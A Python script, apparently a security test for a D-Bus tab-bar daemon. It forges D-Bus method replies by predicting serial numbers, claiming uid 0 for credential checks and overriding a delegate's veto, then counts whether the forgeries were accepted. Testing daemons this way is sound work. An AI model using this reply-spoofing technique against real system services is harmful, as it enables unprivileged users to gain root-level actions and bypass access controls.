#!/usr/bin/python3
"""Forged replies against tabbard: forge.py ADDRESS SCENARIO ROUNDS.

A connection that was not asked answers a call the daemon makes. Serials count up per
connection, so the daemon's next one is learned from the reply to a Ping sent from another
connection; right behind its own request the forger sends METHOD_RETURNs for the next serials,
which reach the daemon after the request and before any true answer, and would complete the
daemon's call if the daemon took a reply from anyone. (GDBus, because dbus-python's
set_reply_serial overruns its stack.)
  credentials  each round a fresh connection (run this as a user outside the admin group of a
               system instance) calls SetTabs, SetBadge or Reset and forges the bus's answer
               to the daemon's question about its uid: uid 0, as GetConnectionUnixUser answers
               (u) and as GetConnectionCredentials answers (a{sv} with UnixUserID), on every
               connection of the daemon's process (it asks uids on one of its own);
  delegate     a connection that is not the delegate (a vetoing delegate is registered) taps
               a tab and answers the daemon's ShouldSelect with true.
Prints "SUMMARY {json}": rounds, forged replies sent, calls believed (went through), refused,
and the errors by name ("vetoed" for a tap the delegate refused)."""
import json
import sys

from gi.repository import Gio, GLib

SERVICE, ROOT = "org.tabbard.TabBar1", "/org/tabbard/TabBar1"
address, scenario, rounds = sys.argv[1], sys.argv[2], int(sys.argv[3])
FLAGS = Gio.DBusConnectionFlags.AUTHENTICATION_CLIENT | Gio.DBusConnectionFlags.MESSAGE_BUS_CONNECTION
# How far ahead of the observed serial the daemon's call may be (signals it sends meanwhile).
AHEAD = 6
stats = {"scenario": scenario, "rounds": rounds, "forged": 0, "believed": 0, "refused": 0, "errors": {}}


def connect():
    return Gio.DBusConnection.new_for_address_sync(address, FLAGS, None, None)


observer = connect()


def bus_call(member, *arguments):
    signature = "(" + "s" * len(arguments) + ")"
    return observer.call_sync("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", member,
                              GLib.Variant(signature, arguments) if arguments else None, None,
                              Gio.DBusCallFlags.NONE, 10000, None).unpack()


daemon = bus_call("GetNameOwner", SERVICE)[0]
pid = bus_call("GetConnectionUnixProcessID", daemon)[0]
# The daemon's connections: the one that owns the name, and any other of its process.
targets = [daemon] + [name for name in bus_call("ListNames")[0]
                      if name.startswith(":") and name != daemon and bus_call("GetConnectionUnixProcessID", name)[0] == pid]
stats["connections"] = len(targets)


def next_serial(target=daemon):
    """The serial the next message of the daemon's connection `target` will carry (libdbus
    answers Peer.Ping on every connection)."""
    ping = Gio.DBusMessage.new_method_call(target, ROOT, "org.freedesktop.DBus.Peer", "Ping")
    reply, _ = observer.send_message_with_reply_sync(ping, Gio.DBusSendMessageFlags.NONE, 10000, None)
    return reply.get_serial() + 1


def forge(connection, first, bodies, target=daemon):
    """Sends, as `connection`, replies with each of `bodies` to the calls `first`..`first + AHEAD`
    of the daemon's connection `target`."""
    for serial in range(first, first + AHEAD + 1):
        for body in bodies:
            reply = Gio.DBusMessage.new()
            reply.set_message_type(Gio.DBusMessageType.METHOD_RETURN)
            reply.set_reply_serial(serial)
            reply.set_destination(target)
            reply.set_body(body)
            connection.send_message(reply, Gio.DBusSendMessageFlags.NONE)
            stats["forged"] += 1


def call_and_forge(connection, member, arguments, bodies):
    """Calls `member` on the controller and forges right behind it; returns (error name, values)."""
    firsts = [(target, next_serial(target)) for target in (targets if forges_every_connection else [daemon])]
    call = Gio.DBusMessage.new_method_call(SERVICE, ROOT, SERVICE, member)
    if arguments is not None:
        call.set_body(arguments)
    loop = GLib.MainLoop()
    outcome = {}

    def answered(connection, result, *ignored):
        try:
            outcome["message"] = connection.send_message_with_reply_finish(result)
        except GLib.Error as error:
            outcome["failure"] = str(error)
        loop.quit()

    connection.send_message_with_reply(call, Gio.DBusSendMessageFlags.NONE, 20000, None, answered)
    for target, first in firsts:
        forge(connection, first, bodies, target)
    loop.run()
    if "failure" in outcome:
        return "failure: " + outcome["failure"], None
    message = outcome["message"]
    if message.get_message_type() == Gio.DBusMessageType.ERROR:
        return message.get_error_name(), None
    body = message.get_body()
    return None, body.unpack() if body is not None else ()


def count(error):
    if error is None:
        stats["believed"] += 1
    else:
        stats["refused"] += 1
        stats["errors"][error] = stats["errors"].get(error, 0) + 1


forges_every_connection = scenario == "credentials"
uid_zero = [GLib.Variant("(u)", (0,)), GLib.Variant("(a{sv})", ({"UnixUserID": GLib.Variant("u", 0)},))]
if scenario == "credentials":
    calls = [("SetTabs", GLib.Variant("(as)", (["alarm", "timer"],))), ("SetBadge", GLib.Variant("(ss)", ("alarm", "forged"))),
             ("Reset", None)]
    for round in range(rounds):
        connection = connect()  # A fresh name: its uid is not known yet.
        member, arguments = calls[round % len(calls)]
        error, _ = call_and_forge(connection, member, arguments, uid_zero)
        count(error)
        connection.close_sync(None)
elif scenario == "delegate":
    connection = connect()
    for round in range(rounds):
        tab = ["alarm", "timer"][round % 2]
        error, values = call_and_forge(connection, "Tap", GLib.Variant("(s)", (tab,)), [GLib.Variant("(b)", (True,))])
        if error is None and values != (True,):
            error = "vetoed"  # Tap answered false: the delegate's veto held.
        count(error)
else:
    sys.exit("unknown scenario " + scenario)
print("SUMMARY " + json.dumps(stats, sort_keys=True))
